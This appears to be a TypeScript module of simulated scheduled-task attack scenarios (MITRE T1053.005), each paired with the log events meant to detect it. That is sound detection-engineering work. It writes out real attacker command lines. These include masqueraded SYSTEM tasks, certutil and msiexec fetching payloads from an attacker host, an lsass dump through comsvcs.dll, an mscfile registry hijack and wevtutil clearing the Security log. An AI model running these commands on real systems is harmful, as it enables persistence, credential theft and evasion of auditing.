import { bySchtasks, SYSTEM32 } from '../fleet/ways.ts'
import { dailyTrigger } from '../host/task-triggers.ts'
import type { Attack } from './attack.ts'
import {
  ATTACKER,
  after,
  asSystem,
  cmd,
  type Draft,
  exec,
  implant,
  implantAction,
  powershell,
  runs,
  withShell,
} from './steps.ts'

/** A name among Windows' own tasks. */
export const masquerade: Attack = {
  name: 'masquerade',
  variants: ['windows-folder', 'defender'],
  technique: 'T1053.005',
  does: "creates a task under \\Microsoft\\Windows\\ with a name that looks like one of Windows' own",
  shownBy: 'as schtasks-create',
  plan(scene) {
    const { target, claim, variant } = scene
    const path =
      variant === 'defender'
        ? '\\Microsoft\\Windows\\Windows Defender\\Windows Defender Signature Sync'
        : '\\Microsoft\\Windows\\Printing\\SpoolerSync'
    const draft: Draft = {
      path,
      triggers: dailyTrigger('2026-03-09T12:00:00'),
      principal: asSystem,
      action: implantAction,
    }
    withShell(scene, 'powershell', (shell) => {
      const line = implantAction.kind === 'exec' ? `powershell.exe ${implantAction.arguments}` : ''
      const commandLine = `"${SYSTEM32}schtasks.exe" /create /tn "${path}" /tr "${line}" /sc daily /st 12:00 /ru SYSTEM /f`
      claim(bySchtasks(target, shell, commandLine, draft))
      after(target, 55 * 60_000, () =>
        runs(target, path, { kind: 'time' }, target.host.system, (process) => implant(target, process)),
      )
    })
  },
}

/** What the payload does is what gives it away. */
export const busyPayload: Attack = {
  name: 'busy-payload',
  variants: ['discover-download-dump'],
  technique: 'T1053.005',
  does: 'runs a payload that looks around the domain, downloads a tool and dumps the memory of lsass',
  shownBy: 'process events with command lines of the run and its descendants',
  plan(scene) {
    const { target, claim } = scene
    const draft: Draft = {
      path: '\\DiagTrackHelper',
      triggers: dailyTrigger('2026-03-09T13:00:00'),
      principal: asSystem,
      action: powershell('-ep bypass -f C:\\Users\\Public\\d.ps1'),
    }
    withShell(scene, 'powershell', (shell) => {
      const commandLine = `"${SYSTEM32}schtasks.exe" /create /tn DiagTrackHelper /tr "powershell.exe -ep bypass -f C:\\Users\\Public\\d.ps1" /sc daily /st 13:00 /ru SYSTEM`
      claim(bySchtasks(target, shell, commandLine, draft))
      after(target, 70 * 60_000, () =>
        runs(target, draft.path, { kind: 'time' }, target.host.system, (process) => {
          const { host } = target
          const run = (file: string, args: string, ms = 300) =>
            host.runConsole(process, SYSTEM32 + file, `"C:\\Windows\\system32\\${file}" ${args}`, ms)
          run('net.exe', 'group "Domain Admins" /domain')
          run('nltest.exe', '/domain_trusts')
          run('certutil.exe', `-urlcache -split -f http://${ATTACKER}/t.exe C:\\Users\\Public\\t.exe`, 2500)
          run('rundll32.exe', 'C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Users\\Public\\l.dmp full', 4000)
        }),
      )
    })
  },
}

const ordinaryPrograms: Readonly<Record<string, readonly [file: string, args: string]>> = {
  rundll32: ['rundll32.exe', 'C:\\ProgramData\\Fabrikam\\cache.dat,Start'],
  msiexec: ['msiexec.exe', `/q /i http://${ATTACKER}/update.msi`],
}

/** The program is ordinary, its argument is not. */
export const unusualArgument: Attack = {
  name: 'unusual-argument',
  variants: Object.keys(ordinaryPrograms),
  technique: 'T1053.005',
  does: "creates a task that starts one of Windows' own programs with an argument that nobody else gives it",
  shownBy: '4698, command lines',
  plan(scene) {
    const { target, claim, variant } = scene
    const [file = 'rundll32.exe', args = ''] = ordinaryPrograms[variant] ?? []
    const draft: Draft = {
      path: '\\Fabrikam\\Cache maintenance',
      triggers: dailyTrigger('2026-03-09T14:30:00'),
      principal: asSystem,
      action: exec(SYSTEM32 + file, args, SYSTEM32 + file),
    }
    withShell(scene, 'cmd', (shell) => {
      const asks = `/tn "${draft.path}" /tr "${SYSTEM32}${file} ${args}" /sc daily /st 14:30 /ru SYSTEM`
      claim(bySchtasks(target, shell, `schtasks  /create ${asks}`, draft))
      after(target, 30 * 60_000, () => runs(target, draft.path, { kind: 'time' }))
    })
  },
}

const consoles: Readonly<Record<string, string>> = { compmgmt: 'compmgmt.msc', eventvwr: 'eventvwr.msc' }

/** Atomic Red Team T1053.005 tests 11 and 12: opening a console document starts what the user's registry says. */
export const consoleDocument: Attack = {
  name: 'console-document',
  variants: Object.keys(consoles),
  technique: 'T1053.005',
  does: 'makes console documents open a program of its own and creates a task that opens one',
  shownBy: '4698, command lines; Sysmon 13 of HKCU\\Software\\Classes\\mscfile only where it is configured',
  plan(scene) {
    const { target, claim, variant } = scene
    const document = consoles[variant] ?? 'compmgmt.msc'
    const path = `\\${variant === 'compmgmt' ? 'CompMgmtBypass' : 'EventViewerBypass'}`
    withShell(scene, 'cmd', (shell, desk) => {
      const { host } = target
      const key = 'HKCU\\Software\\Classes\\mscfile\\shell\\open\\command'
      const reg = host.start(
        shell,
        `${SYSTEM32}reg.exe`,
        `reg  add "${key}" /ve /t REG_EXPAND_SZ /d "c:\\windows\\System32\\calc.exe" /f`,
      )
      host.wait(50)
      host.exit(reg)
      host.wait(700)
      const draft: Draft = {
        path,
        triggers: [{ kind: 'logon' }],
        principal: { id: 'Author', userId: desk.session.sid, highest: true, logonType: 'InteractiveToken' },
        action: exec(document, '', `${SYSTEM32}mmc.exe`),
      }
      claim(
        bySchtasks(
          target,
          shell,
          `schtasks  /Create /TN "${path.slice(1)}" /TR "${document}" /SC ONLOGON /RL HIGHEST /F`,
          draft,
        ),
      )
    })
  },
}

/** The Security log is cleared between the creation and the run. */
export const logCleared: Attack = {
  name: 'log-cleared',
  variants: ['wevtutil'],
  technique: 'T1053.005',
  does: 'creates a task, clears the audit log, and lets the task run',
  shownBy: '1102; TaskScheduler and Sysmon keep what the audit log lost, where they were not cleared',
  plan(scene) {
    const { target, claim } = scene
    const draft: Draft = {
      path: '\\NetworkProbe',
      triggers: dailyTrigger('2026-03-09T15:00:00'),
      principal: asSystem,
      action: cmd('/c C:\\Users\\Public\\probe.bat'),
    }
    withShell(scene, 'cmd', (shell, desk) => {
      const { host } = target
      claim(
        bySchtasks(
          target,
          shell,
          'schtasks  /create /tn NetworkProbe /tr "cmd.exe /c C:\\Users\\Public\\probe.bat" /sc daily /st 15:00 /ru SYSTEM',
          draft,
        ),
      )
      host.wait(60_000)
      const tool = host.start(shell, `${SYSTEM32}wevtutil.exe`, 'wevtutil  cl Security')
      host.clearAuditLog(desk.session)
      host.wait(40)
      host.exit(tool)
      after(target, 50 * 60_000, () =>
        runs(target, draft.path, { kind: 'time' }, target.host.system, (process) => implant(target, process)),
      )
    })
  },
}
